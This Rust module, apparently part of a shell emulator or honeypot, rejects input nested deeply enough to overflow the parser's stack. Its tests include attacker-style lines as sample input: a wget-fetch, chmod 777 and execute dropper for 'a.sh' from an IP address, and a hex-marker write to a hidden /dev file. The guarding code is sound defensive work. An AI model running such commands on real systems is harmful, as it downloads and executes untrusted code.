//! Refuses text that would make the parser or the interpreter recurse without end.
//!
//! `bashkit` bounds most of its recursion, not all of it (0.20.2: `time`, `eval`, scripts that run themselves, chains of
//! `!` and parentheses in `find`, `test` and `[[`), and an overflowing stack ends the whole process. Text is counted
//! here before it is parsed; how deep running commands nest is watched by `Session::is_too_deep`.

/// The longest line that is typed, in bytes.
pub(super) const LONGEST_LINE: usize = 16 * 1024;
/// The longest script, in bytes.
pub(super) const LONGEST_SCRIPT: usize = 64 * 1024;
/// The deepest nesting of brackets, quotes and compound commands together.
const DEEPEST: usize = 40;
/// The most prefixes (`time`, `!`, unary operators) in a row.
const MOST_PREFIXES: usize = 24;
/// The most operators of one kind that recurse to the right (`&&` in `[[`, `a ? b : c`).
const MOST_OPERATORS: usize = 400;

/// The longest pipeline, twice over: in a pattern a bar is a level.
const MOST_PIPES: usize = 640;

/// Whether this text may be given to the parser.
pub(super) fn is_harmless(text: &str, longest: usize) -> bool {
    text.len() <= longest && nesting_is_harmless(text)
}

/// Counts brackets and repeated prefixes. Does not parse: it counts too much rather than too little.
fn nesting_is_harmless(text: &str) -> bool {
    let (mut depth, mut deepest) = (0_usize, 0_usize);
    let mut prefixes = 0_usize;
    let mut keywords = 0_usize;
    let mut operators = 0_usize;
    let mut run: (char, usize) = ('\0', 0);
    let mut word = String::new();
    let (mut pipes, mut last) = (0_usize, ' ');
    for c in text.chars().chain([' ']) {
        match c {
            '(' | '{' | '[' => {
                depth += 1;
                deepest = deepest.max(depth);
            }
            ')' | '}' | ']' => depth = depth.saturating_sub(1),
            // A pipe is no level: the programs of a pipeline are a list.
            '|' if !matches!(last, '|') => pipes += 1,
            '?' | ':' | '&' | '|' | '^' => operators += 1,
            '\n' => (operators, pipes) = (0, 0),
            _ => {}
        }
        last = c;
        // `-----1`, `!!!!x`, `$$$$`, `~~~~`: each sign is one level of an expression parser.
        if matches!(c, '!' | '-' | '+' | '~' | '`' | '\\' | '$' | '*' | '<' | '@' | '?') {
            run = if run.0 == c { (c, run.1 + 1) } else { (c, 1) };
            let most = if matches!(c, '-' | '+' | '*' | '<' | '\\' | '?') { 1200 } else { MOST_PREFIXES * 2 };
            if run.1 > most {
                return false;
            }
        } else if !c.is_whitespace() {
            run = ('\0', 0);
        }
        if c.is_alphanumeric() || matches!(c, '!' | '-' | '_') {
            if word.len() < 16 {
                word.push(c);
            }
            continue;
        }
        if !word.is_empty() {
            match word.as_str() {
                "time" | "!" | "-not" | "not" | "-n" | "-z" | "coproc" | "eval" | "command" | "builtin"
                | "exec" | "env" | "nohup" | "nice" | "xargs" | "sudo" | "timeout" | "busybox" | "setsid"
                | "stdbuf" | "-p" => prefixes += 1,
                "if" | "while" | "until" | "for" | "case" | "select" | "do" | "then" => keywords += 1,
                "fi" | "done" | "esac" => keywords = keywords.saturating_sub(2),
                _ => prefixes = 0,
            }
            word.clear();
        } else if matches!(c, ';' | '\n' | '|' | '&') {
            prefixes = 0;
        }
        if prefixes > MOST_PREFIXES
            || keywords > 2 * DEEPEST
            || deepest > DEEPEST
            || operators > MOST_OPERATORS
            || pipes > MOST_PIPES
        {
            return false;
        }
    }
    true
}

/// Whether the arguments of a program may be given to it: those that parse expressions recurse over their arguments.
pub(super) fn arguments_are_harmless(name: &str, args: &[String]) -> bool {
    match name {
        "eval" | "bash" | "sh" | "trap" | "." | "source" | "awk" | "mawk" | "gawk" | "sed" | "bc"
        | "grep" | "egrep" | "let" | "expr" | "jq" | "declare" | "local" | "typeset" | "export"
        | "readonly" | "printf" => args.iter().all(|arg| is_harmless(arg, LONGEST_SCRIPT)),
        "find" | "test" | "[" | "[[" => {
            let signs = args.iter().filter(|arg| {
                matches!(arg.as_str(), "!" | "-not" | "(" | ")" | "-a" | "-o" | "-and" | "-or" | ",")
            });
            signs.count() <= 60
        }
        "env" | "nohup" | "xargs" | "sudo" | "nice" | "timeout" | "setsid" | "stdbuf" | "command"
        | "builtin" | "exec" | "busybox" | "time" | "watch" | "parallel" | "chroot" => {
            args.iter().filter(|arg| arguments_nest(arg)).count() <= MOST_PREFIXES
        }
        _ => true,
    }
}

/// Whether a word starts another program of its own arguments.
fn arguments_nest(word: &str) -> bool {
    matches!(
        word.rsplit('/').next().unwrap_or(word),
        "env"
            | "nohup"
            | "xargs"
            | "sudo"
            | "nice"
            | "timeout"
            | "setsid"
            | "stdbuf"
            | "command"
            | "builtin"
            | "exec"
            | "busybox"
            | "time"
            | "eval"
            | "watch"
            | "parallel"
            | "chroot"
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ordinary_lines_pass() {
        for line in [
            "uname -a; cat /proc/cpuinfo | grep name | wc -l",
            "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://192.0.2.1/a.sh; chmod 777 a.sh; sh a.sh",
            "for i in 1 2 3; do if [ $i = 2 ]; then echo $((i * (2 + 3))); fi; done",
            "echo -e '\\x67\\x61\\x79\\x66\\x67\\x74' > /dev/.nippon; cat /dev/.nippon",
            "echo ------------------------------------------------------------",
        ] {
            assert!(is_harmless(line, LONGEST_LINE), "{line}");
        }
    }

    #[test]
    fn nesting_does_not() {
        for line in [
            "(".repeat(100),
            "$((".repeat(60),
            "time ".repeat(100),
            "! ".repeat(100),
            "if true; then ".repeat(100),
            "eval ".repeat(100),
            "x".repeat(LONGEST_LINE + 1),
        ] {
            assert!(!is_harmless(&line, LONGEST_LINE), "{line}");
        }
        let many = |word: &str| vec![word.to_owned(); 200];
        assert!(!arguments_are_harmless("find", &many("!")));
        assert!(!arguments_are_harmless("nohup", &many("nohup")));
        assert!(arguments_are_harmless("rm", &many("!")));
    }
}
